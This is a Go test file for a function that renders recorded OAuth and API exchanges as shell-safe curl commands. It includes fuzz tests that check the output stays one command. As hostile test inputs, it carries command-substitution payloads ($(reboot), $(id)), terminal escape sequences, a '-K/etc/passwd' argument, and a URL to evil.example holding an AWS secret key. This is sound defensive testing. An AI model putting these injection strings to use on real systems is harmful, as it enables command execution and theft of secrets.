package report

import (
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/scopeproof/scopeproof/oauth"
)

func TestCurlCommands(t *testing.T) {
	form := []oauth.Param{{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}}
	for _, c := range []struct {
		name string
		e    oauth.Exchange
		want string
	}{
		{"a refresh", tokenExchange(1), `curl -sS -i -X POST "$ISSUER/protocol/openid-connect/token" \
  -u "$CLIENT_ID:$CLIENT_SECRET" \
  --data-raw 'grant_type=refresh_token' \
  --data-urlencode "refresh_token=$REFRESH_TOKEN" \
  --data-raw 'scope=read%3Aappointments+write%3Aappointments'`},
		{"a call of the API", apiExchange(1, 201, ""), `curl -sS -i -X POST 'http://127.0.0.1:9090/appointments?owner=ada&note=it'\''s' \
  -H "Authorization: Bearer $TOKEN" \
  -H 'Content-Type: application/json' \
  --data-raw '{"title":"Ada'\''s check-up"}'`},
		{"a plain GET of the issuer", oauth.Exchange{Method: "GET", URL: issuer}, `curl -sS -i "$ISSUER"`},
		{"an issuer that only begins the same", oauth.Exchange{Method: "GET", URL: issuer + "-two/token"}, `curl -sS -i http://127.0.0.1:8080/realms/clinic-two/token`},
		{"a HEAD", oauth.Exchange{Method: "HEAD", URL: "https://api.example/a"}, `curl -sS -i --head https://api.example/a`},
		{"a code in the query, percent-encoded", oauth.Exchange{Method: "GET", URL: issuer + "/cb?code=%E2%80%B9sha256%3Aaaaaaaaa%E2%80%BA&state=x"},
			`curl -sS -i "$ISSUER/cb?code=$CODE&state=x"`},
		{"a variable before a letter", oauth.Exchange{Method: "GET", URL: issuer + "/cb?code=‹sha256:aaaaaaaa›x"}, `curl -sS -i "$ISSUER/cb?code=${CODE}x"`},
		{"every byte of a form as it was sent", oauth.Exchange{Method: "POST", URL: issuer + "/t", Request: oauth.Message{Header: form, Body: "scope=a++b&scope=%zz&x"}},
			`curl -sS -i -X POST "$ISSUER/t" \
  --data-raw 'scope=a++b&scope=%zz&x'`},
		{"a secret in JSON", oauth.Exchange{Method: "PUT", URL: issuer + "/c", Request: oauth.Message{Body: `{"client_secret": "‹sha256:aaaaaaaa›","n":1}`}},
			`curl -sS -i -X PUT "$ISSUER/c" \
  -H Content-Type: \
  --data-raw '{"client_secret": "'"$CLIENT_SECRET"'","n":1}'`},
		{"a parameter that a server made up", oauth.Exchange{Method: "GET", URL: "http://evil.example/?AWS_SECRET_ACCESS_KEY=‹sha256:aaaaaaaa›"},
			`curl -sS -i "http://evil.example/?AWS_SECRET_ACCESS_KEY=$SECRET"`},
		{"a path that curl would tidy", oauth.Exchange{Method: "GET", URL: issuer + "/../x?a[]=1"}, `curl -sS -i --globoff --path-as-is "$ISSUER"'/../x?a[]=1'`},
		{"a body that was cut", oauth.Exchange{Method: "POST", URL: issuer + "/t", Request: oauth.Message{Header: form, Body: "a=b…"}},
			"# the body was cut when it was recorded\ncurl -sS -i -X POST \"$ISSUER/t\" \\\n  --data-raw 'a=b…'"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Curl(c.e, issuer).Text; got != c.want {
				t.Errorf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}

// words runs a command in bash with curl replaced by a function that prints its
// arguments, and returns them.
func words(t *testing.T, command string) []string {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash in PATH")
	}
	cmd := exec.Command(bash, "--norc", "-c", "curl() { printf '%s\\0' \"$@\"; }\n"+command)
	cmd.Env = []string{"ISSUER=" + issuer, "TOKEN=the-token", "SECRET=the-secret", "CLIENT_ID=id", "CLIENT_SECRET=pw", "HOME=private", "PATH=/nonexistent"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s\n%s", err, out, command)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
}

func TestCurlKeepsWhatAServerChoseFromTheShell(t *testing.T) {
	e := hostileExchange(1)
	command := Curl(e, issuer).Text
	for _, c := range command {
		if c != '\n' && isHidden(c) {
			t.Errorf("the command holds %q, on which a terminal acts", c)
		}
	}
	got := words(t, command)
	odd := "X-Odd: " + strings.ReplaceAll(hostile, "\x00", "")
	for _, want := range []string{
		"http://evil.example/'$(reboot)`reboot`\"\x1b]0;x\x07?HOME=the-secret&[x]",
		"Authorization: Bearer the-token", odd, "X-Empty;", `{"title":"Ada's check-up"}`,
	} {
		if !slices.Contains(got, want) {
			t.Errorf("no argument is %q; got %q", want, got)
		}
	}
	for _, argument := range got {
		if strings.Contains(argument, "private") || strings.HasPrefix(argument, "@") {
			t.Errorf("an argument reads what it should not: %q", argument)
		}
	}
}

func FuzzCurlIsOneCommand(f *testing.F) {
	f.Add("http://a/'b", "x\ny", "k=v&‹sha256:aaaaaaaa›")
	f.Add(issuer+"/$(id)", "`id`", "a=‹sha256:aaaaaaaa›$(id)")
	f.Add("-K/etc/passwd", hostile, hostile)
	f.Fuzz(func(t *testing.T, address, header, body string) {
		e := oauth.Exchange{Method: "POST", URL: address, Request: oauth.Message{
			Header: []oauth.Param{{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}, {Name: "X", Value: header}}, Body: body,
		}}
		if got := words(t, Curl(e, issuer).Text); len(got) < 5 || got[0] != "-sS" || got[1] != "-i" {
			t.Errorf("got %q", got)
		}
	})
}
